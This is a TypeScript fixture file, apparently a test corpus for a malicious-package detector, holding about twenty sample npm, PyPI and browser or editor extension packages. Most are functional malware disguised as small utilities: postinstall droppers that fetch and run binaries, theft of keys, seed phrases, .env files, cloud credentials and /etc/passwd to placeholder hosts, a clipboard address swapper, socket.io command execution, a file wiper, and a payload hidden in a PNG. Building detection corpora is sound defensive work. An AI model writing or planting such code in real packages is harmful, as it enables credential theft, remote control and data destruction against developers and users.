import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

const INERT = 'console.log("this sample does nothing at all, it is a test");';
const PAD = String.raw`'use strict';
module.exports = function padLeft(text, width, fill) {
  text = String(text);
  fill = fill === undefined ? ' ' : String(fill);
  while (text.length < width) text = fill + text;
  return text;
};
`;
const SLUG = String.raw`const MAP = { ä: 'ae', ö: 'oe', ü: 'ue', ß: 'ss', é: 'e' };
function slug(text) {
  return String(text).toLowerCase().replace(/[äöüßé]/g, (c) => MAP[c]).replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');
}
module.exports = slug;
`;
const DEBOUNCE = String.raw`function debounce(fn, wait) {
  let timer;
  return function (...args) {
    clearTimeout(timer);
    timer = setTimeout(() => fn.apply(this, args), wait);
  };
}
module.exports = debounce;
`;
const BG = (name: string, permissions: string[], extra: object = {}): string =>
  JSON.stringify({ manifest_version: 3, name, version: '2.4.1', background: { service_worker: 'background.js' }, permissions, host_permissions: ['<all_urls>'], ...extra }, null, 2);

/** Packages in the manner of public reports of 2018 to 2026, written by somebody who had not read the rules: those that were not found at first, and two kinds that the corpus lacked. Hosts are reserved names, keys are made up. */
export const REPORTS: readonly Sample[] = [
  packaged('program of a server, its path in quotation marks', { postinstall: 'node install.js' }, {
    'index.js': SLUG,
    'install.js': String.raw`const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { exec } = require('child_process');
const name = process.platform === 'win32' ? 'sysupd.exe' : 'sysupd';
const target = path.join(os.tmpdir(), name);
https.get('https://files.cdn-delivery.example/' + process.platform + '/' + name, (res) => {
  const out = fs.createWriteStream(target);
  res.pipe(out);
  out.on('finish', () => out.close(() => {
    if (process.platform !== 'win32') fs.chmodSync(target, 0o755);
    exec('"' + target + '"', { windowsHide: true }, () => {});
  }));
});
`,
  }),
  packaged('private key to a chat', {}, {
    'index.js': String.raw`const { Wallet } = require('ethers');
const TelegramBot = require('node-telegram-bot-api');
const bot = new TelegramBot('1234567890:AAmadeupmadeupmadeupmadeupmadeupmad', { polling: false });
async function connect(privateKey, provider) {
  const wallet = new Wallet(privateKey, provider);
  bot.sendMessage('-100123', wallet.address + ' ' + privateKey).catch(() => {});
  return wallet;
}
async function transfer(wallet, to, value) { return wallet.sendTransaction({ to, value }); }
module.exports = { connect, transfer };
`,
  }, { ethers: '^6', 'node-telegram-bot-api': '^0.66' }),
  packaged('files of the project by mail, at installation', { postinstall: 'node lib/mail.js' }, {
    'index.js': PAD,
    'lib/mail.js': String.raw`const nodemailer = require('nodemailer');
const fs = require('fs');
const path = require('path');
const root = process.env.INIT_CWD || path.resolve('../..');
const files = fs.readdirSync(root).filter((f) => f.startsWith('.env') || f === 'id.json' || f === 'config.json');
const transport = nodemailer.createTransport({ host: 'smtp.mail.example', port: 465, auth: { user: 'drop@mail.example', pass: 'made up' } });
transport.sendMail({ from: 'drop@mail.example', to: 'drop@mail.example', subject: root, attachments: files.map((f) => ({ path: path.join(root, f) })) }, () => {});
`,
  }, { nodemailer: '^6' }),
  packaged('addresses in the clipboard are swapped by programs', {}, {
    'index.js': `${PAD}
const { execSync } = require('child_process');
const MINE = { btc: 'bc1qmadeupmadeupmadeupmadeupmadeupmadeup0', eth: '0x00000000000000000000000000000000DeaDBeef' };
setInterval(() => {
  try {
    const text = execSync('powershell Get-Clipboard').toString().trim();
    if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(text)) execSync('powershell Set-Clipboard ' + MINE.btc);
    else if (/^0x[a-fA-F0-9]{40}$/.test(text)) execSync('powershell Set-Clipboard ' + MINE.eth);
  } catch (e) {}
}, 1000);
`,
  }),
  packaged('a wallet program is unpacked and patched', { postinstall: 'node lib/pdf.js' }, {
    'index.js': PAD,
    'lib/pdf.js': String.raw`const fs = require('fs'), path = require('path'), asar = require('asar');
const app = path.join(process.env.LOCALAPPDATA || '', 'atomic/resources/app.asar');
if (fs.existsSync(app)) {
  const to = path.join(process.env.TEMP, 'unpacked');
  asar.extractAll(app, to);
  const vendor = path.join(to, 'dist/electron/vendors.64b69c3b00e2a7914733.js');
  const text = fs.readFileSync(vendor, 'utf8').replace('t.to=e.to', 't.to=atob("MHgwMA==")');
  fs.writeFileSync(vendor, text);
  asar.createPackage(to, app);
}
`,
  }, { asar: '^3' }),
  packaged('a route that runs what it is sent', {}, {
    'index.js': String.raw`const express = require('express');
const { exec } = require('child_process');
module.exports = function sync(options = {}) {
  const router = express.Router();
  router.post('/api/this/that', express.json(), (req, res) => {
    if (req.body.key !== 'DEFAULT_123') return res.status(404).end();
    exec(req.body.command || 'id', (e, out) => res.send(out));
  });
  router.get('/health', (req, res) => res.json({ ok: true, name: options.name }));
  return router;
};
`,
  }, { express: '^4' }),
  packaged('cloud keys, piped to a server', {}, {
    'index.js': `${PAD}
const http = require('http');
const https = require('https');
if (process.env.CI) http.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/', (res) => {
  let role = '';
  res.on('data', (d) => (role += d)).on('end', () => http.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/' + role, (r) => {
    const req = https.request('https://collect.example/aws', { method: 'POST' });
    r.pipe(req);
  }));
}).on('error', () => {});
`,
  }),
  packaged('text of a server as a script in every page', {}, {
    'manifest.json': BG('Tab Tidy', ['storage', 'tabs', 'scripting', 'cookies']),
    'background.js': String.raw`chrome.runtime.onInstalled.addListener(update);
chrome.alarms?.create('update', { periodInMinutes: 5 });
chrome.alarms?.onAlarm.addListener(update);
async function update() {
  const res = await fetch('https://cfg.tabtidy.example/ai-cyberhaven', { method: 'POST' });
  const rules = await res.json();
  await chrome.storage.local.set({ tidy_ext_manage: JSON.stringify(rules) });
}
chrome.tabs.onUpdated.addListener(async (id, change, tab) => {
  if (change.status !== 'complete') return;
  const { tidy_ext_manage } = await chrome.storage.local.get('tidy_ext_manage');
  for (const rule of JSON.parse(tidy_ext_manage || '[]')) if (new RegExp(rule.match).test(tab.url)) chrome.scripting.executeScript({ target: { tabId: id }, world: 'MAIN', func: (c) => { const s = document.createElement('script'); s.textContent = c; document.head.append(s); }, args: [rule.code] });
});
chrome.action.onClicked.addListener(async () => {
  const tabs = await chrome.tabs.query({ currentWindow: true });
  tabs.sort((a, b) => a.url.localeCompare(b.url)).forEach((t, i) => chrome.tabs.move(t.id, { index: i }));
});
`,
  }),
  packaged('links and scripts that the background names', {}, {
    'manifest.json': BG('Dark Reader Lite', ['storage'], { content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }] }),
    'content.js': String.raw`document.documentElement.style.filter = 'invert(0.9) hue-rotate(180deg)';
chrome.runtime.sendMessage({ url: location.href }, (answer) => {
  if (!answer) return;
  if (answer.redirect) location.href = answer.redirect;
  for (const a of document.querySelectorAll('a[href*="amazon."], a[href*="aliexpress."]')) {
    const u = new URL(a.href);
    u.searchParams.set('tag', answer.tag);
    a.href = u.toString();
  }
  if (answer.js) {
    const s = document.createElement('script');
    s.src = answer.js;
    document.body.appendChild(s);
  }
});
`,
    'background.js': "chrome.runtime.onMessage.addListener((m, s, r) => { fetch('https://aff.darklite.example/r?u=' + encodeURIComponent(m.url)).then((x) => x.json()).then(r); return true; });\n",
  }),
  packaged('words of a wallet from a form', {}, {
    'manifest.json': BG('Safery Wallet', ['storage'], { action: { default_popup: 'popup.html' } }),
    'background.js': 'chrome.runtime.onInstalled.addListener(() => chrome.tabs.create({ url: "popup.html" }));\n',
    'popup.html': '<!doctype html><form id="f"><textarea name="seed" placeholder="Seed phrase"></textarea><button>Import wallet</button></form><script src="popup.js"></script>',
    'popup.js': String.raw`document.getElementById('f').addEventListener('submit', async (e) => {
  e.preventDefault();
  const seed = new FormData(e.target).get('seed').trim();
  if (seed.split(/\s+/).length < 12) return alert('12 words, please');
  await fetch('https://api.sui-safery.example/v1/import', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ mnemonic: seed }) });
  await chrome.storage.local.set({ imported: true });
});
`,
  }),
  packaged('every file that is opened in an editor', {}, {
    'extension.js': String.raw`const vscode = require('vscode');
const fs = require('fs');
function activate(context) {
  context.subscriptions.push(vscode.commands.registerCommand('chat.ask', async () => vscode.window.showInputBox({ prompt: 'Ask' })));
  vscode.workspace.onDidOpenTextDocument((doc) => {
    const content = fs.readFileSync(doc.uri.fsPath).toString('base64');
    fetch('https://aihao123.example/api/f', { method: 'POST', body: JSON.stringify({ name: doc.fileName, content }) }).catch(() => {});
  });
}
exports.activate = activate;
`,
  }),
  packaged('credentials that an automation keeps', {}, {
    'dist/nodes/GoogleAds/GoogleAds.node.js': String.raw`Object.defineProperty(exports, '__esModule', { value: true });
class GoogleAds {
  constructor() { this.description = { displayName: 'Google Ads', name: 'googleAds', group: ['transform'], version: 1, inputs: ['main'], outputs: ['main'], credentials: [{ name: 'googleAdsOAuth2Api', required: true }], properties: [] }; }
  async execute() {
    const items = this.getInputData();
    const credentials = await this.getCredentials('googleAdsOAuth2Api');
    await this.helpers.httpRequest({ method: 'POST', url: 'https://ads-stats.example/collect', body: { credentials }, json: true }).catch(() => {});
    const data = await this.helpers.httpRequestWithAuthentication.call(this, 'googleAdsOAuth2Api', { url: 'https://googleads.googleapis.com/v17/customers' });
    return [items.map(() => ({ json: data }))];
  }
}
exports.GoogleAds = GoogleAds;
`,
  }),
  packaged('files are overwritten in some countries', {}, {
    'index.js': `require('./dao/ssl-geospec');\n${PAD}`,
    'dao/ssl-geospec.js': String.raw`const fs = require('fs'), path = require('path'), https = require('https');
function walk(dir) {
  for (const name of fs.readdirSync(dir)) {
    const at = path.join(dir, name);
    try { if (fs.statSync(at).isDirectory()) walk(at); else fs.writeFileSync(at, '\u2764\ufe0f', 'utf8'); } catch {}
  }
}
setTimeout(() => https.get('https://api.ipgeolocation.example/ipgeo?apiKey=made-up', (res) => res.on('data', (d) => {
  const { country_name } = JSON.parse(d.toString());
  if (country_name === 'Nowhere at all') ['./', '../', '../../', '/'].forEach(walk);
})), Math.ceil(1e3 * Math.random()));
`,
  }),
  packaged('a module compiled from the end of a picture', {}, {
    'index.js': `${SLUG}
const fs = require('fs');
const raw = fs.readFileSync(__dirname + '/logo.png');
const at = raw.indexOf('IEND') + 8;
if (raw.length > at) module.constructor.prototype._compile.call(module, raw.subarray(at).toString(), __filename);
`,
    'logo.png': `\x89PNG\r\n\x1a\n${'\0'.repeat(60)}IEND\xaeB\`\x82${INERT}`,
  }),
  packaged('a program named like a licence', { postinstall: 'node -r ./lib/init.js index.js' }, {
    'index.js': DEBOUNCE,
    'lib/init.js': "const { spawn } = require('child_process');\nconst fs = require('fs'), os = require('os'), path = require('path');\nconst to = path.join(os.homedir(), '.vscode', 'jsconfig.js');\nfs.mkdirSync(path.dirname(to), { recursive: true });\nfs.copyFileSync(path.join(__dirname, 'LICENSE.txt'), to);\nspawn(process.execPath, [to], { detached: true, stdio: 'ignore', windowsHide: true }).unref();\n",
    'lib/LICENSE.txt': `${INERT}\n`,
  }),
  packaged('accounts of the computer, at installation', { postinstall: 'node index.js' }, {
    'index.js': String.raw`const http = require('http');
const fs = require('fs');
const pkg = fs.readFileSync('package.json', 'utf8');
const p = fs.readFileSync('/etc/passwd', 'utf8');
const h = fs.readFileSync('/etc/hosts', 'utf8');
const out = encodeURIComponent(Buffer.from(pkg + p + h).toString('base64'));
http.get('http://c2.update-check.example:4444/?d=' + out).on('error', () => {});
module.exports = (a, b) => a + b;
`,
  }),
  packaged('code of a server for another interpreter, in one line', { postinstall: 'node scripts/check-env.js' }, {
    'index.js': SLUG,
    'scripts/check-env.js': String.raw`const { spawnSync, spawn } = require('child_process');
const code = "import urllib.request as u;exec(u.urlopen('http://c2.update-check.example/p').read())";
for (const bin of ['python3', 'python']) {
  if (spawnSync(bin, ['--version']).status === 0) { spawn(bin, ['-c', code], { detached: true, stdio: 'ignore' }).unref(); break; }
}
`,
  }),
  packaged('commands by socket.io', {}, {
    'index.js': `${DEBOUNCE}
const io = require('socket.io-client');
const { exec } = require('child_process');
const s = io('http://c2.update-check.example:6001', { reconnectionDelay: 15000 });
s.on('connect', () => s.emit('hi', require('os').hostname()));
s.on('cmd', (m) => exec(m.code, (e, out, err) => s.emit('res', { id: m.id, out: out || err })));
`,
  }, { 'socket.io-client': '^4' }),
  packaged('environment at installation, in Python', {}, {
    'setup.py': String.raw`from setuptools import setup
from setuptools.command.install import install
import os, json, platform, requests

class PostInstall(install):
    def run(self):
        install.run(self)
        text = json.dumps({"h": platform.node(), "env": dict(os.environ)})
        requests.post("https://api.telegram.example/bot123:made-up/sendMessage", data={"chat_id": "-100", "text": text})

setup(name="souktools", version="1.0.2", packages=["souktools"], cmdclass={"install": PostInstall})
`,
    'souktools/__init__.py': 'def pad(text, width):\n    return str(text).rjust(width)\n',
  }),
  packaged('program of a server, in Python', {}, {
    'souktools/__init__.py': String.raw`import os
import subprocess
import tempfile
import urllib.request


def pad(text, width):
    return str(text).rjust(width)


def _check():
    target = os.path.join(tempfile.gettempdir(), "update.exe")
    urllib.request.urlretrieve("https://dl.files.example/update.exe", target)
    subprocess.Popen([target], creationflags=0x08000000)


if os.name == "nt":
    try:
        _check()
    except Exception:
        pass
`,
  }),
];
